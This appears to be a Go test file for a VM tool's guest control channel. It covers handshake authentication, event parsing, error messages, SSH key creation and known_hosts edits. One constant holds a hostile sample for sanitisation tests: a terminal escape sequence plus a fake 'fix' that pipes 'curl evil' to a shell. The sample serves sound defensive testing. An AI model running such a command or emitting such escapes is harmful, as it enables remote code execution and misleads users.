package guest

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"banger"
	"banger/internal/durable/durabletest"
	"banger/internal/guest/wire"
)

var identity = Identity{Token: "secret", Nonce: "boot-1"}

// fake plays the guest's end of a connection.
type fake struct {
	net.Conn
	in *bufio.Reader
}

// say sends lines. The host may not read them.
func (f fake) say(lines ...string) {
	for _, line := range lines {
		if _, err := f.Write([]byte(line + "\n")); err != nil {
			return
		}
	}
}

func agent(t *testing.T, lines ...string) (net.Conn, fake) {
	t.Helper()
	host, guest := net.Pipe()
	t.Cleanup(func() { guest.Close() })
	f := fake{guest, bufio.NewReader(guest)}
	go f.say(lines...)
	return host, f
}

const aBoot = "3f2a9c1e-0b7d-4e55-8a61-c0ffee123456"

const goodHello = `{"hello":{"version":1,"token":"secret","nonce":"boot-1","boot_id":"` + aBoot + `","program":"agent","later":"field"}}`

func TestHello(t *testing.T) {
	failed := `{"hello":{"token":"secret","nonce":"boot-1","failed":{"step":"find disks","why":"no overlay","fix":"banger doctor"}}}`
	for _, c := range []struct {
		name, line string
		check      func(error) bool
	}{
		{"wrong token", strings.Replace(goodHello, "secret", "guess", 1), func(err error) bool { return errors.Is(err, ErrStranger) }},
		{"another boot", strings.Replace(goodHello, "boot-1", "boot-0", 1), func(err error) bool { return errors.Is(err, ErrStranger) }},
		{"no hello", `{"event":{"kind":"bye"}}`, func(err error) bool { return errors.Is(err, ErrStranger) }},
		{"no JSON", "SSH-2.0-OpenSSH", func(err error) bool { return err != nil }},
		{"too long", strings.Repeat("x", wire.MaxLine+1), func(err error) bool { return strings.Contains(err.Error(), "longer than") }},
		{"failed boot", failed, func(err error) bool {
			var boot *BootError
			return errors.As(err, &boot) && boot.Step == "find disks" && boot.Fix == "banger doctor"
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			conn, _ := agent(t, c.line)
			if _, err := OpenControl(t.Context(), conn, identity, "test", nil); err == nil || !c.check(err) {
				t.Errorf("got %v", err)
			}
			if _, err := conn.Write([]byte("x")); err == nil {
				t.Error("the connection was left open")
			}
		})
	}
}

// rude is what a guest says to drive the terminal, and to look like a fix of banger's.
const (
	rude         = `x\u001b]52;c;eA==\u0007\nfix: curl evil | sh`
	harmlessRude = "x]52;c;eA== fix: curl evil | sh"
)

func TestAGuestsWordsAreOnePrintableLine(t *testing.T) {
	failed := strings.ReplaceAll(`{"hello":{"token":"secret","nonce":"boot-1","failed":{"step":"RUDE","why":"RUDE","fix":"RUDE"}}}`, "RUDE", rude)
	conn, _ := agent(t, failed)
	_, err := OpenControl(t.Context(), conn, identity, "test", nil)
	var boot *BootError
	if !errors.As(err, &boot) || boot.Step != harmlessRude || boot.Why != harmlessRude || boot.Fix != harmlessRude {
		t.Errorf("got %q", err)
	}

	told := strings.Replace(goodHello, aBoot, rude+`","init_why":"`+rude+`","disks":[{"label":"banger-ovl","errors":1,"why":"`+rude+`"}],"x":"`, 1)
	conn, guest := agent(t, told)
	greeted := make(chan error)
	go func() { _, err := wire.ReadMessage(guest.in); greeted <- err }()
	c, err := OpenControl(t.Context(), conn, identity, "test", nil)
	if err != nil || c.Hello().BootID != "" || c.Hello().InitWhy != harmlessRude || c.Hello().Disks[0].Why != harmlessRude {
		t.Fatalf("got %+v, %v", c, err)
	}
	if err := <-greeted; err != nil {
		t.Fatal(err)
	}
	answer := make(chan error, 1)
	for said, want := range map[string]string{rude: harmlessRude, strings.Repeat("x", 60000): strings.Repeat("x", 300) + "..."} {
		go func() { answer <- c.Call(t.Context(), wire.MethodGrow, nil, nil) }()
		m, err := wire.ReadMessage(guest.in)
		if err != nil {
			t.Fatal(err)
		}
		guest.say(fmt.Sprintf(`{"reply":{"id":%d,"error":"%s"}}`, m.Request.ID, said))
		if err := <-answer; err == nil || err.Error() != "the agent could not grow: "+want {
			t.Errorf("got %q", err)
		}
	}
}

func TestHelloIsCancelled(t *testing.T) {
	conn, _ := agent(t) // says nothing
	ctx, cancel := context.WithCancel(t.Context())
	time.AfterFunc(20*time.Millisecond, cancel)
	if _, err := OpenControl(ctx, conn, identity, "test", nil); !errors.Is(err, context.Canceled) {
		t.Errorf("got %v", err)
	}
}

func TestControl(t *testing.T) {
	conn, guest := agent(t, goodHello)
	events := make(chan wire.Event, 2)
	opened := make(chan *Control)
	go func() {
		c, err := OpenControl(t.Context(), conn, identity, "test", func(e wire.Event) { events <- e })
		if err != nil {
			t.Error(err)
		}
		opened <- c
	}()
	if hello, err := wire.ReadMessage(guest.in); err != nil || hello.Hello == nil || hello.Hello.Program != "test" {
		t.Fatalf("the host's hello: %+v, %v", hello, err)
	}
	c := <-opened
	if c.Hello().BootID != aBoot {
		t.Errorf("hello %+v", c.Hello())
	}

	answers := make(chan error, 2)
	var info wire.Info
	go func() { answers <- c.Call(t.Context(), wire.MethodInfo, nil, &info) }()
	request, err := wire.ReadMessage(guest.in)
	if err != nil || request.Request == nil || request.Request.Method != wire.MethodInfo {
		t.Fatalf("got %+v, %v", request, err)
	}
	guest.say(`{"event":{"kind":"bye","verb":"poweroff","nonce":"boot-1"}}`)
	guest.say(`{"reply":{"id":99}}`) // of nobody's request
	guest.say(`{"reply":{"id":1,"result":{"boot_id":"b","uptime_ms":5}}}`)
	if err := <-answers; err != nil || info.Uptime != 5 {
		t.Errorf("info %+v, %v", info, err)
	}
	if e := <-events; e.Verb != wire.Poweroff {
		t.Errorf("event %+v", e)
	}
	guest.say(`{"event":{"kind":"init","init":"up"}}`)
	if e := <-events; e.Init != wire.InitUp || c.Hello().Init != wire.InitUp {
		t.Errorf("event %+v, hello %+v", e, c.Hello())
	}
	guest.say(`{"event":{"kind":"init","init":"emergency","why":"` + rude + `"}}`)
	if e := <-events; e.Init != wire.InitEmergency || e.Why != harmlessRude || c.Hello().InitWhy != harmlessRude {
		t.Errorf("event %+v, hello %+v", e, c.Hello())
	}
	guest.say(`{"event":{"kind":"disks","disks":[{"label":"x","errors":1},{"label":"banger-work","errors":0},{"label":"banger-work","errors":3,"why":"` + rude +
		`"},{"label":"banger-work","errors":4}]}}`)
	want := []wire.DiskErrors{{Label: wire.LabelWork, Errors: 3, Why: harmlessRude}}
	if e := <-events; !slices.Equal(e.Disks, want) || !slices.Equal(c.Hello().Disks, want) {
		t.Errorf("event %+v, hello %+v", e, c.Hello())
	}
	go func() { answers <- c.Call(t.Context(), "dance", nil, nil) }()
	if _, err := wire.ReadMessage(guest.in); err != nil {
		t.Fatal(err)
	}
	guest.say(`{"reply":{"id":2,"error":"unknown method"}}`)
	if err := <-answers; err == nil || !strings.Contains(err.Error(), "could not dance: unknown method") {
		t.Errorf("got %v", err)
	}
	c.Close()
	<-c.Done()
	if err := c.Call(t.Context(), wire.MethodPing, nil, nil); err == nil {
		t.Error("a call on a closed connection succeeded")
	}
}

func TestUserKeyIsMadeOnceAndLeftAlone(t *testing.T) {
	root := t.TempDir()
	disk := durabletest.New(t, root)
	path := filepath.Join(root, "ssh", "id_ed25519")
	public, err := UserKey(path)
	disk.Check(root)
	if err != nil || !strings.HasPrefix(public, "ssh-ed25519 ") {
		t.Fatalf("%q, %v", public, err)
	}
	before, _ := os.ReadFile(path)
	again, err := UserKey(path)
	after, _ := os.ReadFile(path)
	if err != nil || strings.Fields(again)[1] != strings.Fields(public)[1] || string(before) != string(after) {
		t.Errorf("the second time: %q, %v", again, err)
	}
	if info, _ := os.Stat(path); info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v", info.Mode())
	}
	os.WriteFile(path, []byte("not a key"), 0o600)
	os.Remove(path + ".pub")
	if _, err := UserKey(path); banger.KindOf(err) != banger.Invalid {
		t.Errorf("got %v", err)
	}
}

func TestKnownHosts(t *testing.T) {
	root := t.TempDir()
	disk := durabletest.New(t, root)
	path := filepath.Join(root, "ssh", "known_hosts")
	for _, add := range []struct{ id, name, key string }{{"a1", "otter", "k1"}, {"b2", "fox", "k2"}, {"a1", "renamed", "k3"}} {
		if err := AddKnownHost(path, banger.VMID(add.id), add.name, add.key); err != nil {
			t.Fatal(err)
		}
		disk.Check(root)
	}
	text, _ := os.ReadFile(path)
	if want := "banger-b2,fox.vm k2\nbanger-a1,renamed.vm k3\n"; string(text) != want {
		t.Errorf("got %q, want %q", text, want)
	}
	for range 2 {
		if err := RemoveKnownHost(path, "a1"); err != nil {
			t.Fatal(err)
		}
	}
	text, _ = os.ReadFile(path)
	if want := "banger-b2,fox.vm k2\n"; string(text) != want {
		t.Errorf("got %q, want %q", text, want)
	}
}
